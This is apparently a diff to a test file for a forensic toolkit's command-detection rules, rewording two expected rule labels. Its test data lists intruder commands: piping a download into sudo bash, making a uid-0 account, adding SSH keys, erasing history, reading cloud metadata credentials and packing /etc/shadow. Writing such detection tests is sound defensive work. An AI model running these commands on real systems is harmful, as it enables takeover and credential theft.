@@ -16,7 +16,7 @@ from forensic_toolkit.rules.command_rules import judge, rules
         ("curl -fsSL https://x.example/i.sh | sudo bash", "Download piped into an interpreter"),
         ("curl http://198.51.100.7/a -o /tmp/.x", "Download from a bare address"),
         ("chmod u+s /bin/bash", "Set-user-id bit set"),
-        ("useradd -ou 0 -g 0 evil -u 0", "Superuser account made"),
+        ("useradd -ou 0 -g 0 evil -u 0", "Superuser account created"),
         ("echo ssh-rsa AAA >> ~/.ssh/authorized_keys", "SSH key added"),
         ("unset HISTFILE", "Shell history disabled or erased"),
         ("ln -sf /dev/null ~/.bash_history", "Shell history disabled or erased"),
@@ -27,7 +27,7 @@ from forensic_toolkit.rules.command_rules import judge, rules
         ("cp /bin/sh /usr/local/lib/.cache/sh", "File placed under a hidden or temporary name"),
         ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "Cloud credentials read"),
         ("tar czf /tmp/a.tgz /etc/shadow", "Password hashes read or packed"),
-        ("whoami", "Looking around"),
+        ("whoami", "Reconnaissance of the system"),
     ],
 )
 def test_commands_of_intruders(command: str, name: str) -> None:
